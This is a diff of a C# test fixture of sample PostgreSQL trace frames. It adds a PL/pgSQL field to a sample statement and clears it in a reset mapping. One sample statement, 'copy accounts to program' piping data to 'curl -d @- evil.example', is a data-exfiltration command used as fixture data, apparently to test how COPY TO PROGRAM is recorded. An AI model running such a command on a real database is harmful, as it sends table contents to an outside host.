@@ -43,7 +43,8 @@ internal static class SampleFrames
         new StatementStarted(Header(12), 8_123_456_789, "COPY", StatementKind.Utility, StatementContext.TopLevel,
             "copy accounts to program 'curl -d @- evil.example' -- é…", Prepared: new PreparedStatementReference("", 0),
             Portal: new PortalReference("c1", CachedPlan: true), Origin: "", Targets: [16601, 16602],
-            Copy: new CopyDetails(IsFrom: false, IsProgram: true, "curl -d @- evil.example")),
+            Copy: new CopyDetails(IsFrom: false, IsProgram: true, "curl -d @- evil.example"),
+            Plpgsql: new PlpgsqlStatement(4, "dynexecute")),
         new StatementFinished(Header(13), 12, FrameOutcome.Succeeded, "", 3),
         new RoleSwitched(Header(14), "SET ROLE", 16384, 16390, Local: true),
         new ObjectChanged(Header(15, parent: 12, depth: 1), "alter", 1259, 16601, 2, "table column", "public.accounts.note"),
@@ -144,7 +145,7 @@ internal static class SampleFrames
         FunctionDescribed f => f with { Config = null, Role = "", Extension = "" },
         RelationDescribed r => r with { RowSecurity = false, ForceRowSecurity = false, Code = null, Extension = "" },
         QueryAnalyzed q => q with { Relations = null, Aggregates = null, Domains = null, Text = "" },
-        StatementStarted s => s with { Prepared = null, Portal = null, Origin = "", Targets = null, Copy = null },
+        StatementStarted s => s with { Prepared = null, Portal = null, Origin = "", Targets = null, Copy = null, Plpgsql = null },
         FunctionEntered f => f with { EventTrigger = f.EventTrigger is { } e ? e with { Triggers = null } : null, Phase = "", Via = null },
         _ => frame,
     };
